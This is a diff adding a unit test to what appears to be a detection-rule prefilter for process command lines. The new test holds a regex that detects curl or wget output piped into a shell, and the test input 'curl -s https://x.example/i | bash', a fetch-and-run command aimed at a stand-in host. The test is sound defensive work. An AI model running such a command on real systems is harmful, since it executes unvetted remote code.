@@ -66,3 +66,16 @@ def test_a_rule_is_looked_at_where_each_field_holds_what_it_wants() -> None:
     assert filtered.candidates(["/bin/ls", "ls -x"]) == [1, 2, 4, 5]
     assert filtered.candidates([None, None]) == [2]
     assert required(tree.Not(program)) == []
+
+
+def test_a_rule_that_wants_several_texts_of_one_field_is_looked_at_for_the_two_rarest() -> None:
+    piped = tree.Regex("CommandLine", r"(curl|wget)[^|]{1,200}\|\s*(ba|da)?sh")
+    once = tree.Text("CommandLine", (tree.MANY, "curl", tree.MANY))
+    filtered = Prefilter([(node, {"CommandLine": 0}) for node in (piped, tree.All((once, once)))])
+    for text, expected in (
+        ("curl -s https://x.example/i | bash", [0, 1]),
+        ("CURL -s https://x.example/i", [1]),
+        ("bash -c ls", []),
+        (None, []),
+    ):
+        assert filtered.candidates([text]) == expected
